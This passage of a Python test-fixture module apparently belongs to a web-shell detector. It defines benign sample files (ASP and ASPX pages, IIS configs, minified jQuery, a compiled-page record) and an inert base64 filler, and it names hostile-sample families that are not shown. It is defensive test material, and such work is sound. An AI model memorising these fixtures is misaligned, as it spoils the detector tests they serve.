Dim name, conn
name = Request.Form("name")
Set conn = Server.CreateObject("ADODB.Connection")
conn.Open Application("dsn")
Response.Write "<p>Thank you, " & Server.HTMLEncode(name) & "</p>"
conn.Close
%>
"""


def benign_samples() -> list[Sample]:
    """Stock-looking pages, admin and upload pages, handlers, ordinary configuration and minified script."""
    return [
        Sample("benign", "errorFE.aspx", _ERROR_FE),
        Sample("benign", "logon.aspx", _LOGON),
        Sample("benign", "procs.aspx", _ADMIN_PROCESS, "Process.Start with constants"),
        Sample("benign", "upload.aspx", _UPLOAD_APP, "upload keeping the file's own name"),
        Sample("benign", "ping.ashx", _ECP_HANDLER),
        Sample("benign", "lookup.asmx", _ASMX_SERVICE),
        Sample("benign", "web.config", _WEB_CONFIG_STOCK),
        Sample("benign", "applicationHost.config", _APPHOST, "IIS's stock handler maps"),
        Sample("benign", "jquery.min.js", _JQUERY_MIN, "minified script with eval"),
        Sample("benign", "guestbook.asp", _CLASSIC_ASP_APP),
        Sample(
            "benign",
            "App_Web_stock0001.dll",
            _pe(b"App_Web_stock0001", b"System.Web.UI.Page", b"get_Request", b"get_QueryString", b"HtmlEncode"),
        ),
        Sample(
            "benign",
            "logon.aspx.cdcab7d2.compiled",
            b'<?xml version="1.0" encoding="utf-8"?>\n<preserve resultType="3" virtualPath="/owa/auth/logon.aspx" '
            b'hash="1" filehash="2" flags="110000" assembly="App_Web_logon.aspx.cdcab7d2" type="ASP.logon_aspx" />\n',
        ),
    ]


def base64_payload(n: int = 600, seed: int = 7) -> str:
    """An inert high-entropy base64 string of ``n`` random bytes (a stand-in for an embedded assembly)."""
    rng = random.Random(seed)
    return base64.b64encode(bytes(rng.randrange(256) for _ in range(n))).decode()


__all__ = [
    "FAMILIES",
    "Sample",
    "base64_payload",
    "benign_samples",
    "family_samples",
    "hex_escaped_tiny",
    "variants",
    "with_gif_header",
]
